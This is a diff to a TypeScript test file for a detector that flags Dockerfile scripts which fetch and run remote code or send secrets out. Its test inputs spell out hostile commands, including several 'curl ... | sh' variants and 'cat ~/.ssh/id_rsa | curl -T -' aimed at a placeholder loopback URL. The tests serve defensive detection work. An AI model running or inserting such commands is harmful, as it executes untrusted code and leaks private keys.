@@ -1,8 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { kindOf, writtenAs } from '../carriers.ts';
 import { judgeScript } from '../scripts.ts';
 
 const SHELL = { buildsImage: false, hashComments: true, shell: 'posix' } as const;
-const IMAGE = { buildsImage: true, hashComments: true, shell: 'dockerfile' } as const;
+const image = (text: string) => judgeScript(text, kindOf(writtenAs('Dockerfile', text)));
 const U = 'http://127.0.0.1:9/x';
 
 describe('what commands of a script do with what others brought', () => {
@@ -117,9 +118,15 @@ describe('what commands of a script do with what others brought', () => {
     ['names of the image', `ENV G="curl -s"\nARG U=${U}\nRUN $G $U | sh`, 'fetched-code'],
     ['a file that is written', `COPY <<E /x\ncurl ${U} | sh\nE\nENTRYPOINT sh /x`, 'fetched-code'],
     ['a folder of the image', `WORKDIR /a\nRUN curl -sO ${U} && cd /\nRUN sh ./x`, 'fetched-code'],
+    ['a name of many words', `ENV G curl -s ${U}\nRUN $G | sh`, 'fetched-code'],
+    [
+      'a file of another image',
+      `FROM x AS a\nRUN curl -so /b ${U}\nFROM y\nCOPY --from=a /b /c\nRUN sh /c`,
+      'fetched-code',
+    ],
     ['a key that is sent', `RUN cat ~/.ssh/id_rsa | curl -T - ${U}`, 'attacking-script'],
   ])('follows an image through %s', (_, text, rule) => {
-    expect(judgeScript(`FROM y\n${text}`, IMAGE)?.rule.id).toBe(`remote-code/${rule}`);
+    expect(image(`FROM y\n${text}`)?.rule.id).toBe(`remote-code/${rule}`);
   });
 
   it.each([
@@ -128,6 +135,6 @@ describe('what commands of a script do with what others brought', () => {
     ['what is told by its digest', `ADD --checksum=sha256:0 ${U} /x\nRUN sh /x`],
     ['its own health', 'HEALTHCHECK CMD curl -f http://localhost/ || exit 1'],
   ])('minds no more of an image than it must: %s', (_, text) => {
-    expect(judgeScript(`FROM y\n${text}`, IMAGE)).toBeNull();
+    expect(image(`FROM y\n${text}`)).toBeNull();
   });
 });
